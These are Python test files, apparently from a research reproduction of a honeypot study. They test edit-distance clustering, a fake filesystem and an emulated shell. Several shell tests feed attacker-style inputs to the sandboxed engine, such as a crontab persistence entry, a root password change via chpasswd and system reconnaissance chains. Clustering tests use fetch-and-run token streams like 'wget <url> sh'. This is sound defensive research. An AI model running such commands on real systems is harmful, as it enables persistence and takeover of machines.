from repro.analysis.kmedoids import kmedoids, silhouette_score
from repro.honeypot.fs import FakeFilesystem
from repro.parallel.distance import chunk_spans, pair_at, row_offsets


def reference_dld(a: tuple[str, ...], b: tuple[str, ...]) -> int:
    """Naive memoized restricted-DLD (optimal string alignment)."""

    @lru_cache(maxsize=None)
    def solve(i: int, j: int) -> int:
        if i == 0:
            return j
        if j == 0:
            return i
        cost = 0 if a[i - 1] == b[j - 1] else 1
        best = min(
            solve(i - 1, j) + 1,
            solve(i, j - 1) + 1,
            solve(i - 1, j - 1) + cost,
        )
        if i > 1 and j > 1 and a[i - 1] == b[j - 2] and a[i - 2] == b[j - 1]:
            best = min(best, solve(i - 2, j - 2) + cost)
        return best

    return solve(len(a), len(b))


_tokens = st.lists(st.sampled_from(["a", "b", "c", "d"]), max_size=8)


class TestDldAgainstReference:
    @given(_tokens, _tokens)
    @settings(max_examples=250)
    def test_matches_reference(self, a, b):
        assert damerau_levenshtein(a, b) == reference_dld(tuple(a), tuple(b))

    def test_transposition_cases(self):
        # classic OSA cases
        assert damerau_levenshtein(list("ca"), list("abc")) == 3
        assert damerau_levenshtein(list("ab"), list("ba")) == 1
        assert damerau_levenshtein(list("abcd"), list("badc")) == 2


class TestDldMetricProperties:
    """Invariants the clustering pipeline relies on (ISSUE 2)."""

    @given(_tokens, _tokens)
    @settings(max_examples=200)
    def test_symmetry(self, a, b):
        assert damerau_levenshtein(a, b) == damerau_levenshtein(b, a)
        assert normalized_dld(a, b) == normalized_dld(b, a)

    @given(_tokens)
    @settings(max_examples=100)
    def test_identity(self, a):
        assert damerau_levenshtein(a, a) == 0
        assert normalized_dld(a, a) == 0.0

    @given(_tokens, _tokens)
    @settings(max_examples=200)
    def test_length_difference_and_max_length_bounds(self, a, b):
        # |len(a)-len(b)| <= DLD <= max(len(a), len(b)) — the bounds the
        # chunked matrix uses for its early exit must actually bound.
        lower, upper = dld_bounds(a, b)
        assert lower == abs(len(a) - len(b))
        assert upper == max(len(a), len(b))
        assert lower <= damerau_levenshtein(a, b) <= upper

    @given(_tokens, _tokens)
    @settings(max_examples=200)
    def test_normalized_in_unit_interval(self, a, b):
        value = normalized_dld(a, b)
        assert 0.0 <= value <= 1.0
        if not a and not b:
            assert value == 0.0
        elif bool(a) != bool(b):
            # one side empty: distance is the bounds-coincide early exit
            assert value == 1.0

    @given(_tokens.filter(lambda t: len(t) >= 2), st.data())
    @settings(max_examples=150)
    def test_single_adjacent_transposition_costs_one(self, a, data):
        index = data.draw(st.integers(min_value=0, max_value=len(a) - 2))
        assume(a[index] != a[index + 1])
        swapped = a[:index] + [a[index + 1], a[index]] + a[index + 2 :]
        assert damerau_levenshtein(a, swapped) == 1

    @given(_tokens, _tokens, _tokens)
    @settings(max_examples=150)
    def test_relaxed_triangle_bound(self, a, b, c):
        # Restricted DLD (optimal string alignment) is NOT a metric — it
        # can violate the triangle inequality — but it is sandwiched by
        # plain Levenshtein (a transposition is two Levenshtein edits),
        # which gives the provable 2x relaxation used to reason about
        # cluster separations.
        direct = damerau_levenshtein(a, c)
        detour = damerau_levenshtein(a, b) + damerau_levenshtein(b, c)
        assert direct <= 2 * detour or direct == 0

    def test_triangle_inequality_violation_documented(self):
        # The classic OSA counterexample: d(ca, abc) = 3 but the detour
        # through "ac" costs only 1 + 1.  Downstream code treats DLD as
        # a dissimilarity, never as a true metric.
        a, b, c = list("ca"), list("ac"), list("abc")
        assert damerau_levenshtein(a, c) > (
            damerau_levenshtein(a, b) + damerau_levenshtein(b, c)
        )


_matrix_sizes = st.integers(min_value=0, max_value=40)


class TestChunkGeometry:
    """The linear-index ↔ (i, j) mapping behind the chunked matrix."""

    @given(_matrix_sizes)
    @settings(max_examples=100)
    def test_pair_at_enumerates_upper_triangle_in_order(self, m):
        offsets = row_offsets(m)
        total = m * (m - 1) // 2
        expected = [(i, j) for i in range(m) for j in range(i + 1, m)]
        assert [pair_at(k, offsets) for k in range(total)] == expected

    @given(
        st.integers(min_value=0, max_value=10_000),
        st.integers(min_value=1, max_value=64),
    )
    @settings(max_examples=150)
    def test_chunk_spans_partition_the_pair_range(self, total, chunks):
        spans = chunk_spans(total, chunks)
        assert all(start < stop for start, stop in spans)
        if total == 0:
            assert spans == []
            return
        assert spans[0][0] == 0
        assert spans[-1][1] == total
        for (_, stop), (start, _) in zip(spans, spans[1:]):
            assert start == stop
        sizes = [stop - start for start, stop in spans]
        assert max(sizes) - min(sizes) <= 1

    @given(st.lists(_tokens, min_size=1, max_size=8))
    @settings(max_examples=50, deadline=None)
    def test_distance_matrix_matches_naive_double_loop(self, sequences):
        clear_distance_caches()
        matrix = distance_matrix(sequences)
        for i, a in enumerate(sequences):
            for j, b in enumerate(sequences):
                assert matrix[i, j] == normalized_dld(a, b)
        assert np.array_equal(matrix, matrix.T)


@st.composite
def distance_matrices(draw):
    n = draw(st.integers(min_value=2, max_value=12))
    values = draw(
        st.lists(
            st.floats(min_value=0.01, max_value=1.0),
            min_size=n * (n - 1) // 2,
            max_size=n * (n - 1) // 2,
        )
    )
    matrix = np.zeros((n, n))
    index = 0
    for i in range(n):
        for j in range(i + 1, n):
            matrix[i, j] = matrix[j, i] = values[index]
            index += 1
    return matrix


class TestKMedoidsInvariants:
    @given(distance_matrices(), st.integers(min_value=1, max_value=4))
    @settings(max_examples=60, deadline=None)
    def test_output_invariants(self, matrix, k):
        n = matrix.shape[0]
        k = min(k, n)
        result = kmedoids(matrix, k, seed=1)
        assert len(result.labels) == n
        assert result.inertia >= 0.0
        assert len(result.medoids) == k
        # labels reference valid clusters; every medoid belongs to its
        # own cluster
        assert set(result.labels.tolist()) <= set(range(k))
        for cluster, medoid in enumerate(result.medoids):
            members = result.members(cluster)
            if members.size:
                assert result.labels[medoid] == cluster

    @given(distance_matrices())
    @settings(max_examples=40, deadline=None)
    def test_silhouette_bounds(self, matrix):
        n = matrix.shape[0]
        result = kmedoids(matrix, min(3, n), seed=0)
        score = silhouette_score(matrix, result.labels)
        assert -1.0 <= score <= 1.0


class FilesystemMachine(RuleBasedStateMachine):
    """Model-based test: FakeFilesystem vs a dict model."""

    def __init__(self):
        super().__init__()
        self.fs = FakeFilesystem()
        self.model: dict[str, bytes] = {}

    names = st.sampled_from(["a", "b", "c", "deep/x", "deep/y"])
    payloads = st.binary(max_size=16)

    @rule(name=names, payload=payloads)
    def write(self, name, payload):
        path = f"/tmp/{name}"
        self.fs.write(path, payload)
        self.model[path] = payload

    @rule(name=names, payload=payloads)
    def append(self, name, payload):
        path = f"/tmp/{name}"
        self.fs.write(path, payload, append=True)
        self.model[path] = self.model.get(path, b"") + payload

    @rule(name=names)
    def delete(self, name):
        path = f"/tmp/{name}"
        existed_model = path in self.model
        existed_fs = self.fs.delete(path)
        assert existed_fs == existed_model
        self.model.pop(path, None)

    @rule()
    def delete_tree(self):
        doomed = self.fs.delete_tree("/tmp/deep")
        expected = {p for p in self.model if p.startswith("/tmp/deep/")}
        assert set(doomed) == expected
        for path in expected:
            del self.model[path]

    @invariant()
    def contents_agree(self):
        for path, payload in self.model.items():
            assert self.fs.read(path) == payload
        for name in ("a", "b", "c"):
            path = f"/tmp/{name}"
            if path not in self.model:
                assert self.fs.read(path) is None

    @invariant()
    def baseline_untouched(self):
        assert self.fs.is_file("/etc/passwd")


TestFilesystemMachine = FilesystemMachine.TestCase
