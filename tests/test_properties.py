"""Deeper property-based tests on core data structures.

Includes a brute-force reference implementation of the restricted
Damerau-Levenshtein distance to cross-check the optimized DP, invariant
checks for K-medoids outputs, and a stateful model test of the fake
filesystem.
"""

from __future__ import annotations

from functools import lru_cache

import numpy as np
from hypothesis import given, settings
from hypothesis import strategies as st
from hypothesis.stateful import RuleBasedStateMachine, invariant, rule

from repro.analysis.dld import damerau_levenshtein
from repro.analysis.kmedoids import kmedoids, silhouette_score
from repro.honeypot.fs import FakeFilesystem


def reference_dld(a: tuple[str, ...], b: tuple[str, ...]) -> int:
    """Naive memoized restricted-DLD (optimal string alignment)."""

    @lru_cache(maxsize=None)
    def solve(i: int, j: int) -> int:
        if i == 0:
            return j
        if j == 0:
            return i
        cost = 0 if a[i - 1] == b[j - 1] else 1
        best = min(
            solve(i - 1, j) + 1,
            solve(i, j - 1) + 1,
            solve(i - 1, j - 1) + cost,
        )
        if i > 1 and j > 1 and a[i - 1] == b[j - 2] and a[i - 2] == b[j - 1]:
            best = min(best, solve(i - 2, j - 2) + cost)
        return best

    return solve(len(a), len(b))


_tokens = st.lists(st.sampled_from(["a", "b", "c", "d"]), max_size=8)


class TestDldAgainstReference:
    @given(_tokens, _tokens)
    @settings(max_examples=250)
    def test_matches_reference(self, a, b):
        assert damerau_levenshtein(a, b) == reference_dld(tuple(a), tuple(b))

    def test_transposition_cases(self):
        # classic OSA cases
        assert damerau_levenshtein(list("ca"), list("abc")) == 3
        assert damerau_levenshtein(list("ab"), list("ba")) == 1
        assert damerau_levenshtein(list("abcd"), list("badc")) == 2


@st.composite
def distance_matrices(draw):
    n = draw(st.integers(min_value=2, max_value=12))
    values = draw(
        st.lists(
            st.floats(min_value=0.01, max_value=1.0),
            min_size=n * (n - 1) // 2,
            max_size=n * (n - 1) // 2,
        )
    )
    matrix = np.zeros((n, n))
    index = 0
    for i in range(n):
        for j in range(i + 1, n):
            matrix[i, j] = matrix[j, i] = values[index]
            index += 1
    return matrix


class TestKMedoidsInvariants:
    @given(distance_matrices(), st.integers(min_value=1, max_value=4))
    @settings(max_examples=60, deadline=None)
    def test_output_invariants(self, matrix, k):
        n = matrix.shape[0]
        k = min(k, n)
        result = kmedoids(matrix, k, seed=1)
        assert len(result.labels) == n
        assert result.inertia >= 0.0
        assert len(result.medoids) == k
        # labels reference valid clusters; every medoid belongs to its
        # own cluster
        assert set(result.labels.tolist()) <= set(range(k))
        for cluster, medoid in enumerate(result.medoids):
            members = result.members(cluster)
            if members.size:
                assert result.labels[medoid] == cluster

    @given(distance_matrices())
    @settings(max_examples=40, deadline=None)
    def test_silhouette_bounds(self, matrix):
        n = matrix.shape[0]
        result = kmedoids(matrix, min(3, n), seed=0)
        score = silhouette_score(matrix, result.labels)
        assert -1.0 <= score <= 1.0


class FilesystemMachine(RuleBasedStateMachine):
    """Model-based test: FakeFilesystem vs a dict model."""

    def __init__(self):
        super().__init__()
        self.fs = FakeFilesystem()
        self.model: dict[str, bytes] = {}

    names = st.sampled_from(["a", "b", "c", "deep/x", "deep/y"])
    payloads = st.binary(max_size=16)

    @rule(name=names, payload=payloads)
    def write(self, name, payload):
        path = f"/tmp/{name}"
        self.fs.write(path, payload)
        self.model[path] = payload

    @rule(name=names, payload=payloads)
    def append(self, name, payload):
        path = f"/tmp/{name}"
        self.fs.write(path, payload, append=True)
        self.model[path] = self.model.get(path, b"") + payload

    @rule(name=names)
    def delete(self, name):
        path = f"/tmp/{name}"
        existed_model = path in self.model
        existed_fs = self.fs.delete(path)
        assert existed_fs == existed_model
        self.model.pop(path, None)

    @rule()
    def delete_tree(self):
        doomed = self.fs.delete_tree("/tmp/deep")
        expected = {p for p in self.model if p.startswith("/tmp/deep/")}
        assert set(doomed) == expected
        for path in expected:
            del self.model[path]

    @invariant()
    def contents_agree(self):
        for path, payload in self.model.items():
            assert self.fs.read(path) == payload
        for name in ("a", "b", "c"):
            path = f"/tmp/{name}"
            if path not in self.model:
                assert self.fs.read(path) is None

    @invariant()
    def baseline_untouched(self):
        assert self.fs.is_file("/etc/passwd")


TestFilesystemMachine = FilesystemMachine.TestCase
