"""Text-figure renderers."""

from __future__ import annotations

import pytest

from repro.experiments.base import ExperimentResult
from repro.reporting.figures import (
    bar_chart,
    multi_series_chart,
    numeric_columns,
    render_figure,
)


@pytest.fixture
def monthly_result():
    return ExperimentResult(
        experiment_id="fig10",
        title="t",
        headers=["month", "3245gs5662d34", "1234"],
        rows=[["2023-01", 10, 3], ["2023-02", 20, 4], ["2023-03", 0, 5]],
        notes=[],
    )


class TestNumericColumns:
    def test_detects_numeric(self, monthly_result):
        assert numeric_columns(monthly_result) == [1, 2]

    def test_numeric_strings_count(self):
        result = ExperimentResult("x", "t", ["a", "b"], [["m", "1.5"]], [])
        assert numeric_columns(result) == [1]

    def test_mixed_column_excluded(self):
        result = ExperimentResult(
            "x", "t", ["a", "b"], [["m", "1.5"], ["n", "-"]], []
        )
        assert numeric_columns(result) == []

    def test_empty(self):
        assert numeric_columns(ExperimentResult("x", "t", ["a"], [], [])) == []


class TestBarChart:
    def test_basic(self, monthly_result):
        chart = bar_chart(monthly_result, 0, 1)
        lines = chart.splitlines()
        assert lines[0].startswith("[fig10]")
        assert "2023-02" in chart
        # the maximum row gets the longest bar
        feb = next(line for line in lines if line.startswith("2023-02"))
        jan = next(line for line in lines if line.startswith("2023-01"))
        assert feb.count("#") > jan.count("#")

    def test_zero_row_empty_bar(self, monthly_result):
        chart = bar_chart(monthly_result, 0, 1)
        march = next(
            line for line in chart.splitlines() if line.startswith("2023-03")
        )
        assert "#" not in march

    def test_log_scale_label(self, monthly_result):
        chart = bar_chart(monthly_result, 0, 1, log_scale=True)
        assert "(log scale)" in chart

    def test_truncation(self, monthly_result):
        monthly_result.rows = [["m", i] for i in range(60)]
        chart = bar_chart(monthly_result, 0, 1, max_rows=10)
        assert "more rows" in chart

    def test_empty_rows(self):
        result = ExperimentResult("x", "t", ["a", "b"], [], [])
        assert bar_chart(result, 0, 1) == "(no data)"


class TestMultiSeries:
    def test_two_series(self, monthly_result):
        chart = multi_series_chart(monthly_result, 0, [1, 2])
        assert chart.count("[fig10]") == 2


class TestRenderFigure:
    def test_default_view_used(self, monthly_result):
        chart = render_figure(monthly_result)
        assert "3245gs5662d34" in chart

    def test_no_numeric_columns(self):
        result = ExperimentResult("x", "t", ["a"], [["only text"]], [])
        assert render_figure(result) == ""

    def test_all_experiments_renderable(self, results):
        rendered = 0
        for result in results.values():
            chart = render_figure(result)
            assert isinstance(chart, str)
            if chart:
                rendered += 1
        assert rendered >= 10  # most figures have a numeric view


class TestHeatmap:
    def test_shape_and_ramp(self):
        import numpy as np

        from repro.reporting.figures import ascii_heatmap

        matrix = np.array([[0.0, 1.0], [1.0, 0.0]])
        text = ascii_heatmap(matrix, title="t:")
        lines = text.splitlines()
        assert lines[0] == "t:"
        assert lines[1] == " @"
        assert lines[2] == "@ "

    def test_downsampling(self):
        import numpy as np

        from repro.reporting.figures import ascii_heatmap

        matrix = np.random.default_rng(0).random((100, 100))
        text = ascii_heatmap(matrix, max_cells=10)
        rows = [l for l in text.splitlines() if not l.startswith("(")]
        assert len(rows) == 10
        assert all(len(row) == 10 for row in rows)

    def test_empty(self):
        import numpy as np

        from repro.reporting.figures import ascii_heatmap

        assert "empty" in ascii_heatmap(np.zeros((0, 0)))

    def test_fig05_includes_heatmap(self, results):
        assert "shading" in results["fig05"].extra_text
