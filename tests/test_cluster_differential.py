"""Differential oracle suite: exact vs LSH clustering, online vs batch.

The exact pipeline is the oracle; every pruned or incremental path is
pinned against it:

* ``mode="lsh"`` reproduces the exact-mode distance matrix, cluster
  labels, medoid sets and the Figure 5/6/14 artifact digests
  bit-identically at paper scale, across the {none, paper, stress}
  fault profiles and across {serial, 2 workers} — the activation-floor
  contract of :mod:`repro.analysis.sketch` made observable.
* The online assign-or-spawn clusterer replays the batch sample as a
  stream; its divergence from the batch K-medoids labels is pinned
  with a committed golden (pair agreement ≥ the floor, exact golden
  values for the shared dataset).
"""

from __future__ import annotations

import numpy as np
import pytest

from tests.conftest import PROFILES, short_fault_config
from repro import telemetry
from repro.analysis.distance import distance_matrix
from repro.analysis.online import OnlineClusterer, pair_agreement
from repro.experiments.dataset import Dataset, build_dataset
from repro.experiments.runner import load_all_experiments
from repro.util.hashing import sha256_hex

pytestmark = pytest.mark.cluster

#: Figures whose artifacts depend on the distance pipeline.
DISTANCE_FIGURES = ("fig05", "fig06", "fig14")

#: Committed golden for the online replay over the shared paper-scale
#: dataset (seed 7): the incremental clusterer's divergence from the
#: batch oracle is allowed, but it must be exactly *this* divergence.
ONLINE_GOLDEN = {"clusters": 20, "agreement": 0.9579}

#: Floor on online-vs-batch pair agreement (Rand index) — applies to
#: every profile, not just the golden dataset.
ONLINE_AGREEMENT_FLOOR = 0.80


def lsh_sibling(dataset: Dataset) -> Dataset:
    """A dataset sharing the simulation but clustering in LSH mode."""
    return Dataset(
        simulation=dataset.simulation,
        abuse=dataset.abuse,
        killnet_ips=dataset.killnet_ips,
        shadowserver=dataset.shadowserver,
        cluster_mode="lsh",
    )


@pytest.fixture(scope="module")
def profile_datasets():
    """One dataset per fault profile (short window, shared cache)."""
    return {
        profile: build_dataset(short_fault_config(profile))
        for profile in PROFILES
    }


class TestExactVsLsh:
    @pytest.mark.parametrize("profile", PROFILES)
    def test_matrix_labels_medoids_identical(self, profile_datasets, profile):
        ds = profile_datasets[profile]
        exact = ds.clustering(mode="exact")
        lsh = ds.clustering(mode="lsh")
        assert np.array_equal(exact.matrix, lsh.matrix)
        assert np.array_equal(exact.result.labels, lsh.result.labels)
        assert exact.result.medoids == lsh.result.medoids
        assert exact.selection.chosen_k == lsh.selection.chosen_k
        # paper scale sits below the activation floor: nothing pruned
        assert lsh.approx is not None
        assert lsh.approx.exact
        assert lsh.approx.pruned_pairs == 0

    @pytest.mark.parametrize("profile", PROFILES)
    def test_figure_digests_identical(self, profile_datasets, profile):
        from repro.experiments.base import get_experiment

        load_all_experiments()
        ds = profile_datasets[profile]
        sibling = lsh_sibling(ds)
        for experiment_id in DISTANCE_FIGURES:
            experiment = get_experiment(experiment_id)
            exact_digest = sha256_hex(experiment.run(ds).to_json())
            lsh_digest = sha256_hex(experiment.run(sibling).to_json())
            assert exact_digest == lsh_digest, (
                f"{experiment_id} digest diverged under mode=lsh "
                f"(profile {profile})"
            )

    def test_figure_digests_identical_paper_scale(self, dataset):
        from repro.experiments.base import get_experiment

        load_all_experiments()
        sibling = lsh_sibling(dataset)
        for experiment_id in DISTANCE_FIGURES:
            experiment = get_experiment(experiment_id)
            assert sha256_hex(experiment.run(dataset).to_json()) == (
                sha256_hex(experiment.run(sibling).to_json())
            ), f"{experiment_id} digest diverged under mode=lsh"

    def test_lsh_clustering_reports_bypass_telemetry(self, dataset):
        sibling = lsh_sibling(dataset)
        with telemetry.collecting() as registry:
            clustering = sibling.clustering()
        assert clustering.mode == "lsh"
        assert registry.counters["sketch.bypassed"] == 1


class TestSerialVsWorkers:
    @pytest.mark.parametrize("profile", PROFILES)
    @pytest.mark.parametrize("mode", ("exact", "lsh"))
    def test_matrix_identical_at_two_workers(
        self, profile_datasets, profile, mode
    ):
        tokens = profile_datasets[profile].clustering().tokens
        serial = distance_matrix(tokens, workers=1, mode=mode)
        parallel = distance_matrix(tokens, workers=2, mode=mode)
        assert np.array_equal(serial, parallel)

    def test_paper_scale_matrix_identical_at_two_workers(self, dataset):
        tokens = dataset.clustering().tokens
        for mode in ("exact", "lsh"):
            serial = distance_matrix(tokens, workers=1, mode=mode)
            parallel = distance_matrix(tokens, workers=2, mode=mode)
            assert np.array_equal(serial, parallel)
            assert np.array_equal(serial, dataset.clustering().matrix)


class TestOnlineReplay:
    def test_replay_matches_committed_golden(self, dataset):
        """The day-stream replay over the paper-scale sample diverges
        from the batch re-cluster only by the committed amount."""
        clustering = dataset.clustering()
        clusterer = OnlineClusterer()
        labels = clusterer.replay(clustering.tokens)
        agreement = pair_agreement(labels, clustering.result.labels)
        assert agreement >= ONLINE_AGREEMENT_FLOOR
        assert len(clusterer.clusters) == ONLINE_GOLDEN["clusters"]
        assert round(agreement, 4) == ONLINE_GOLDEN["agreement"]

    @pytest.mark.parametrize("profile", PROFILES)
    def test_agreement_floor_across_profiles(self, profile_datasets, profile):
        clustering = profile_datasets[profile].clustering()
        clusterer = OnlineClusterer()
        labels = clusterer.replay(clustering.tokens)
        assert pair_agreement(
            labels, clustering.result.labels
        ) >= ONLINE_AGREEMENT_FLOOR

    def test_replay_is_deterministic(self, dataset):
        tokens = dataset.clustering().tokens
        first = OnlineClusterer().replay(tokens)
        second = OnlineClusterer().replay(tokens)
        assert first == second

    def test_exact_duplicates_join_one_cluster(self):
        clusterer = OnlineClusterer()
        stream = [["wget", "<url>", "sh"], ["uname", "-a"],
                  ["wget", "<url>", "sh"]]
        labels = clusterer.replay(stream)
        assert labels[0] == labels[2]
        assert labels[0] != labels[1]
        assert clusterer.clusters[labels[0]].size == 2

    def test_small_edit_assigns_spawn_on_distance(self):
        clusterer = OnlineClusterer(threshold=0.45)
        base = ["cd", "/tmp", "wget", "<url>", "chmod", "777", "x", "./x"]
        near = list(base)
        near[6] = "y"  # one substitution: distance 2/8 = 0.25
        far = ["uname", "-a", "nproc"]
        labels = clusterer.replay([base, near, far])
        assert labels[0] == labels[1]
        assert labels[2] != labels[0]

    def test_telemetry_accounts_for_every_observation(self, dataset):
        tokens = dataset.clustering().tokens
        with telemetry.collecting() as registry:
            OnlineClusterer().replay(tokens)
        counters = registry.counters
        assert counters["online.observed"] == len(tokens)
        assert (
            counters.get("online.exact_duplicates", 0)
            + counters.get("online.assigned", 0)
            + counters.get("online.spawned", 0)
        ) == len(tokens)

    def test_pair_agreement_properties(self):
        labels = np.array([0, 0, 1, 1, 2])
        assert pair_agreement(labels, labels) == 1.0
        # relabeling clusters does not change agreement
        relabeled = np.array([7, 7, 3, 3, 9])
        assert pair_agreement(labels, relabeled) == 1.0
        # all-singletons vs all-together agree on nothing
        apart = np.arange(4)
        together = np.zeros(4, dtype=int)
        assert pair_agreement(apart, together) == 0.0
        with pytest.raises(ValueError):
            pair_agreement(np.arange(3), np.arange(4))
