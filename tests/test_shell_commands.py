"""Individual emulated commands (via the engine)."""

from __future__ import annotations

import pytest

from repro.honeypot.session import FileOp
from repro.honeypot.shell.context import ShellContext
from repro.honeypot.shell.engine import ShellEngine


@pytest.fixture
def ctx():
    return ShellContext()


@pytest.fixture
def engine(ctx):
    return ShellEngine(ctx)


class TestEcho:
    def test_plain(self, engine):
        assert engine.run_line("echo hello").output == "hello\n"

    def test_hex_escapes(self, engine):
        assert engine.run_line(r'echo -e "\x6F\x6B"').output == "ok\n"

    def test_no_newline(self, engine):
        assert engine.run_line("echo -n hi").output == "hi"

    def test_combined_flags(self, engine):
        assert engine.run_line(r'echo -ne "\x41"').output == "A"

    def test_variable_expansion(self, engine):
        assert engine.run_line("echo $SHELL").output == "/bin/bash\n"

    def test_unset_variable_empty(self, engine):
        assert engine.run_line("echo $NOPE").output == "\n"


class TestUname:
    def test_bare(self, engine):
        assert engine.run_line("uname").output == "Linux\n"

    def test_all(self, engine):
        output = engine.run_line("uname -a").output
        assert "Linux" in output and "x86_64" in output

    def test_flag_sequence(self, engine):
        output = engine.run_line("uname -s -v -n -r -m").output
        assert output.startswith("Linux ")
        assert "x86_64" in output


class TestInfoCommands:
    def test_nproc(self, engine):
        assert engine.run_line("nproc").output == "2\n"

    def test_whoami(self, engine):
        assert engine.run_line("whoami").output == "root\n"

    def test_id(self, engine):
        assert "uid=0(root)" in engine.run_line("id").output

    def test_lscpu_has_cpu_count(self, engine):
        assert "CPU(s):" in engine.run_line("lscpu").output

    def test_free_mem_row(self, engine):
        assert "Mem:" in engine.run_line("free -m").output

    def test_which_known(self, engine):
        assert engine.run_line("which ls").output == "/usr/bin/ls\n"

    def test_which_unknown_fails(self, engine):
        record = engine.run_line("which frobnicator")
        assert record.output == ""


class TestCatGrepPipeline:
    def test_cat_known_file(self, engine):
        assert "root:x:0:0" in engine.run_line("cat /etc/passwd").output

    def test_cat_missing(self, engine):
        assert "No such file" in engine.run_line("cat /nope").output

    def test_grep_filters(self, engine):
        output = engine.run_line("cat /etc/passwd | grep root").output
        assert "root" in output and "phil" not in output

    def test_recon_chain(self, engine):
        line = (
            "cat /proc/cpuinfo | grep name | head -n 1 "
            "| awk '{print $4,$5,$6,$7,$8,$9;}'"
        )
        output = engine.run_line(line).output
        assert "Xeon" in output

    def test_wc(self, engine):
        output = engine.run_line("cat /etc/passwd | wc").output
        assert output.split()[0] == "2"

    def test_sort_uniq(self, engine):
        output = engine.run_line("cat /etc/hosts | sort | uniq").output
        assert "localhost" in output


class TestCdAndDirs:
    def test_cd_changes_cwd(self, ctx, engine):
        engine.run_line("cd /tmp")
        assert ctx.cwd == "/tmp"

    def test_cd_missing_fails(self, ctx, engine):
        record = engine.run_line("cd /does/not/exist")
        assert "No such file" in record.output
        assert ctx.cwd == "/root"

    def test_cd_home_default(self, ctx, engine):
        engine.run_line("cd /tmp")
        engine.run_line("cd")
        assert ctx.cwd == "/root"

    def test_pwd(self, engine):
        assert engine.run_line("pwd").output == "/root\n"

    def test_mkdir_then_cd(self, ctx, engine):
        engine.run_line("mkdir -p /tmp/.work/deep")
        engine.run_line("cd /tmp/.work/deep")
        assert ctx.cwd == "/tmp/.work/deep"

    def test_ls_lists_entries(self, engine):
        output = engine.run_line("ls /etc").output
        assert "passwd" in output


class TestCrontab:
    def test_list_empty(self, engine):
        assert "no crontab" in engine.run_line("crontab -l").output

    def test_install_from_pipe(self, ctx, engine):
        engine.run_line('echo "* * * * * /tmp/m.sh" | crontab -')
        assert b"/tmp/m.sh" in ctx.fs.read("/var/spool/cron/root")
        assert any(
            e.path == "/var/spool/cron/root" and e.op == FileOp.MODIFY
            for e in ctx.file_events
        )

    def test_install_from_file(self, ctx, engine):
        engine.run_line('echo "@reboot /tmp/x" > /tmp/cronfile')
        engine.run_line("crontab /tmp/cronfile")
        assert b"@reboot" in ctx.fs.read("/var/spool/cron/root")

    def test_remove(self, ctx, engine):
        engine.run_line('echo "x" | crontab -')
        engine.run_line("crontab -r")
        assert ctx.fs.read("/var/spool/cron/root") is None


class TestCredentials:
    def test_chpasswd_sets_root_password(self, ctx, engine):
        engine.run_line('echo "root:newpass123"|chpasswd')
        assert ctx.root_password == "newpass123"

    def test_passwd_defaults(self, ctx, engine):
        engine.run_line("passwd")
        assert ctx.root_password is not None

    def test_openssl_passwd(self, engine):
        output = engine.run_line("openssl passwd -1 abcd1234").output
        assert output.startswith("$1$")


class TestBase64:
    def test_roundtrip(self, engine):
        encoded = engine.run_line("echo -n hello | base64").output.strip()
        decoded = engine.run_line(f"echo -n {encoded} | base64 -d").output
        assert decoded == "hello"

    def test_invalid_input(self, engine):
        record = engine.run_line("echo '!!!' | base64 -d")
        assert "invalid" in record.output or record.output == ""
