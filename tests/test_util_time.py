"""Calendar helpers."""

from __future__ import annotations

from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.util.timeutils import (
    add_months,
    days_between,
    days_in_month,
    epoch_date,
    first_of_month,
    from_epoch,
    month_fraction,
    month_key,
    months_between,
    next_month,
    parse_month,
    quarter_key,
    to_epoch,
)

_dates = st.dates(min_value=date(2000, 1, 1), max_value=date(2030, 12, 31))


class TestMonthKeys:
    def test_month_key(self):
        assert month_key(date(2022, 3, 15)) == "2022-03"

    def test_parse_roundtrip(self):
        assert parse_month("2022-03") == date(2022, 3, 1)

    @given(_dates)
    @settings(max_examples=60)
    def test_roundtrip_property(self, day):
        assert parse_month(month_key(day)) == first_of_month(day)

    def test_next_month_december(self):
        assert next_month(date(2021, 12, 5)) == date(2022, 1, 1)

    def test_add_months(self):
        assert add_months(date(2021, 12, 1), 3) == date(2022, 3, 1)
        assert add_months(date(2022, 5, 20), -6) == date(2021, 11, 1)

    def test_quarter_key(self):
        assert quarter_key(date(2022, 4, 1)) == "2022Q2"


class TestRanges:
    def test_months_between_window(self):
        keys = months_between(date(2021, 12, 1), date(2024, 8, 31))
        assert len(keys) == 33
        assert keys[0] == "2021-12"
        assert keys[-1] == "2024-08"

    def test_months_between_rejects_reversed(self):
        with pytest.raises(ValueError):
            months_between(date(2022, 2, 1), date(2022, 1, 1))

    def test_days_between_inclusive(self):
        days = list(days_between(date(2022, 1, 30), date(2022, 2, 2)))
        assert days == [
            date(2022, 1, 30),
            date(2022, 1, 31),
            date(2022, 2, 1),
            date(2022, 2, 2),
        ]

    def test_days_in_month_leap(self):
        assert days_in_month("2024-02") == 29
        assert days_in_month("2023-02") == 28

    def test_month_fraction_full(self):
        assert month_fraction("2022-05", date(2022, 1, 1), date(2022, 12, 31)) == 1.0

    def test_month_fraction_partial(self):
        value = month_fraction("2021-12", date(2021, 12, 16), date(2022, 12, 31))
        assert value == pytest.approx(16 / 31)

    def test_month_fraction_outside(self):
        assert month_fraction("2020-01", date(2021, 1, 1), date(2021, 2, 1)) == 0.0


class TestEpoch:
    def test_to_epoch_midnight_utc(self):
        ts = to_epoch(date(2022, 1, 1))
        assert from_epoch(ts).hour == 0
        assert epoch_date(ts) == date(2022, 1, 1)

    @given(_dates, st.floats(min_value=0, max_value=86_399))
    @settings(max_examples=60)
    def test_epoch_roundtrip(self, day, seconds):
        assert epoch_date(to_epoch(day, seconds)) == day
