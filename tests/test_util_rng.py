"""Deterministic RNG trees and sampling helpers."""

from __future__ import annotations

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.util.rng import RngTree, derive_seed, poisson, weighted_choice


class TestDeriveSeed:
    def test_deterministic(self):
        assert derive_seed(7, "a", "b") == derive_seed(7, "a", "b")

    def test_distinct_paths(self):
        assert derive_seed(7, "a", "b") != derive_seed(7, "b", "a")

    def test_distinct_masters(self):
        assert derive_seed(7, "a") != derive_seed(8, "a")

    def test_path_concatenation_is_not_ambiguous(self):
        # ("ab",) must differ from ("a", "b")
        assert derive_seed(7, "ab") != derive_seed(7, "a", "b")

    @given(st.integers(), st.text(max_size=20))
    @settings(max_examples=50)
    def test_in_64_bit_range(self, master, name):
        value = derive_seed(master, name)
        assert 0 <= value < 2**64


class TestRngTree:
    def test_child_streams_are_independent(self):
        tree = RngTree(1)
        a = tree.child("x").rand().random()
